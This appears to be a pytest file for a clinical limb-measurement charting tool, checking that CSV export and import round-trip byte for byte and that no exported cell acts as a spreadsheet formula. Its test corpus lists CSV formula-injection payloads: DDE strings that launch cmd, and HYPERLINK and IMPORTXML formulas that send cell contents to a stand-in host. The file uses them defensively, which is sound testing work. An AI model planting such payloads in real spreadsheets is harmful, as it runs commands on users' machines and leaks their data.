"""Export, import, export: the same bytes; and nothing in them is a formula."""

from __future__ import annotations

import csv
import io
import random
import re
from pathlib import Path

import pytest
from limbscribe.core.chart.checklist import shipped_checklists
from limbscribe.core.chart.patient import Patient
from limbscribe.core.chart.session import Session
from limbscribe.core.exchange.csv_rows import COLUMNS, OVERRIDE, guard, unguard
from limbscribe.core.exchange.derived import OF_READING
from limbscribe.core.shelf import Shelf
from limbscribe.core.shelf.maintenance.verify import verify

from tests.support.csv_rows import as_typed
from tests.support.exported import MUSCLES, fill, reading, session
from tests.support.random_sessions import TEXTS, entered, sessions
from tests.support.run import SET_UP, Run, spoken
from tests.support.sizes import and_deep

A_CHART = 25


def there_and_back(run: Run, shelf: Shelf) -> bytes:
    """Export a shelf, import that into a new one and export it again; the bytes."""
    assert run("export", "--shelf", str(shelf.folder), "--output", "one.csv").code in (0, 1)
    ran = run("import", "one.csv", "--shelf", "other")
    assert not Path("one.refused.csv").exists(), Path("one.refused.csv").read_text()[:3000]
    assert ran.code == 0, ran.err
    assert run("export", "--shelf", "other", "--output", "two.csv").code == 0
    one, two = (as_typed(Path(name).read_bytes()) for name in ("one.csv", "two.csv"))
    assert two == one
    again = run("import", "one.csv", "--shelf", "other", "--json")
    assert '"stored": 0' in again.out
    assert verify(Path("other")) == ()
    return one


def shelf_of(folder: Path, charts: dict[str, list[Session]]) -> Shelf:
    shelf = Shelf(folder)
    patients = [Patient(code) for code in charts]
    made = shelf.create_all(patients, "RC", "2026-04-08T10:00:00+02:00", charts)
    assert all(isinstance(id_, str) for id_ in made.values()), made
    return shelf


@pytest.mark.parametrize("number", and_deep(150, 1000, 10_000))
def test_generated_sessions_come_back_as_they_were(run: Run, tmp_path: Path, number: int) -> None:
    charts = {
        f"G-{seed:04d}": list(sessions(random.Random(seed), A_CHART))
        for seed in range(number // A_CHART)
    }
    data = there_and_back(run, shelf_of(tmp_path / "made", charts))
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    count = sum(len(session.readings) for found in charts.values() for session in found)
    assert len(rows) == count
    let = sum(1 for row in rows if row[OVERRIDE] and row[OVERRIDE].count(": "))
    assert let > count / 10, "the column of what was let stand is put to the test"
    print(f"{sum(map(len, charts.values()))} sessions, {count} rows, {let} of them let stand")


def test_entered_sessions_come_back_as_they_were(run: Run, tmp_path: Path) -> None:
    lists = shipped_checklists(MUSCLES)
    found = [
        entered(random.Random(number), lists[number % len(lists)], number) for number in range(120)
    ]
    data = there_and_back(run, shelf_of(tmp_path / "made", {"E-01": found}))
    assert data.count(b"let stand") > 20


def test_a_session_typed_in_lines_with_an_override_comes_back(run: Run, tmp_path: Path) -> None:
    folder = tmp_path / "typed"
    Shelf(folder).create(Patient("ZZ-41", 1961, "female", "stroke", "left"))
    lines = ("9", "2", "62", "o read twice", "n p", "c =later", "s", "jt")
    assert "session 1 signed by JT" in spoken(folder, *SET_UP, *lines).stdout
    data = there_and_back(run, Shelf(folder))
    assert b"r1-beyond-r2: read twice" in data


def test_amended_sessions_come_back_as_they_are_now(run: Run, tmp_path: Path) -> None:
    data = there_and_back(run, fill(tmp_path / "made"))
    assert b",deficit,V3,62,35,2," in data
    assert b",deficit,V3,60,35,2," not in data


def test_the_extra_column_is_there_only_when_needed(run: Run, tmp_path: Path) -> None:
    plain = session("s", "2026-03-02T09:30:00+01:00", reading("soleus", r1=-15, r2=0, quality=2))
    data = there_and_back(run, shelf_of(tmp_path / "made", {"P-01": [plain]}))
    assert data.split(b"\r\n")[0].decode() == ",".join(COLUMNS)


def test_an_override_does_not_excuse_another_rule(run: Run) -> None:
    header = ",".join((*COLUMNS, OVERRIDE))
    row = "P-01,2026-03-02,,,,,soleus,left,,neutral-zero,V3,20,0,2,,,,,"
    for cell, words in (
        ("outside-joint: measured twice", "R1 20 lies 20 deg beyond R2 0"),
        ("r1-beyond-r2", "why it was overridden"),
        ("big-change: it was so", "why it was overridden"),
        ("nothing-measured: the station was begun and left", "beyond R2"),
    ):
        Path("a.csv").write_text(f"{header}\n{row}{cell}\n")
        ran = run("import", "a.csv")
        assert ran.code == 1
        assert words in ran.err
    Path("a.csv").write_text(f"{header}\n{row}r1-beyond-r2: measured twice\n")
    assert run("import", "a.csv").code == 0
    assert "r1-beyond-r2: measured twice" in run("export").out


# Formulas -----------------------------------------------------------------------------------

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CORPUS = [
    *TEXTS,
    *(f"{sign}{rest}" for sign in SIGNS for rest in ("", "1+1", "cmd|' /C calc'!A0", "A1", " x")),
    *(f"a{cut}{sign}1" for cut in ";,|\t\r\n" for sign in "=+-@"),
    '=HYPERLINK("http://x.example?"&A1,"see")',
    '=IMPORTXML(CONCAT("http://x.example",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "'=1+1",
    "''=1+1",
]
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?|[+-][0-9]{2}:[0-9]{2}", re.ASCII)


@pytest.mark.parametrize("meant", CORPUS)
def test_no_cell_is_a_formula_in_any_reader(meant: str) -> None:
    written = guard(meant)
    assert unguard(written) == meant
    if NUMBER.fullmatch(meant):
        assert written == meant
        return
    assert not written.startswith(SIGNS)
    # Parted at another separator than ours, no piece begins a formula either.
    for piece in re.split(r"[;,|\t\r\n]", written):
        assert not piece.startswith(("=", "+", "-", "@")), written


def test_every_reader_finds_numbers_and_no_formula(run: Run, tmp_path: Path) -> None:
    import pandas as pd

    found = [
        session(
            f"s{number}",
            f"2026-03-02T09:{number // 60:02d}:{number % 60:02d}+01:00",
            reading("hamstrings", r1=-60, r2=-35, quality=2, comment=meant.strip()),
        )
        for number, meant in enumerate(CORPUS)
    ]
    data = there_and_back(run, shelf_of(tmp_path / "made", {"P-01": found}))
    rows = list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))
    assert all(len(row) == len(COLUMNS) for row in rows)
    table = pd.read_csv("one.csv", keep_default_na=False, na_values={"clonus_s": [""]})
    assert list(table.columns) == [*COLUMNS, *OF_READING]
    assert (table["r1"] == -60).all()
    assert (table["r2"] == -35).all()
    assert table["r1"].dtype.kind == "i"
    for row, comment in zip(rows[1:], table["comment"], strict=True):
        # The reader may bring line ends into its own form.
        assert comment.splitlines() == row[-1].splitlines()
        if comment and not NUMBER.fullmatch(comment):
            assert not comment.startswith(SIGNS)
